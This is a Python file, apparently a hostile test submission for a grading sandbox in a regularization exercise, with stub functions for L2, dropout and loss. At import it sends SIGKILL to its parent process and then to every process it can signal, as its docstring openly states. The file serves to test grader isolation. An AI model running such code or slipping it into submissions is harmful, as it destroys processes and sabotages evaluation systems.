"""Hostile submission: at import, SIGKILLs its parent and then every process it may signal.

DANGER: never import this outside a working sandbox. Run as root, kill(-1, SIGKILL)
kills every process on the machine except init and itself.

os.kill(os.getppid(), SIGKILL), then os.kill(-1, SIGKILL). The grader must run
student code where it cannot signal the grader or any other job (a dedicated uid,
a pid namespace, Landlock's signal scoping): grading completes, results are
written, and l1_reg (correct here) gets full credit.
"""

import os
import signal

import torch
import torch.nn as nn

for target in (os.getppid(), -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass


def l1_reg(model):
    return sum((param.abs().sum() for param in model.parameters()), torch.zeros(()))


def l2_reg(model):
    raise NotImplementedError("Complete the l2_reg function")


def dropout(x, p, training=True):
    raise NotImplementedError("Complete the dropout function")


class Dropout(nn.Module):
    def __init__(self, p=0.5):
        super().__init__()
        self.p = p

    def forward(self, x):
        raise NotImplementedError("Complete the Dropout.forward function")


def regularized_loss(output, target, model, criterion, lambda1=0.0, lambda2=0.0):
    raise NotImplementedError("Complete the regularized_loss function")
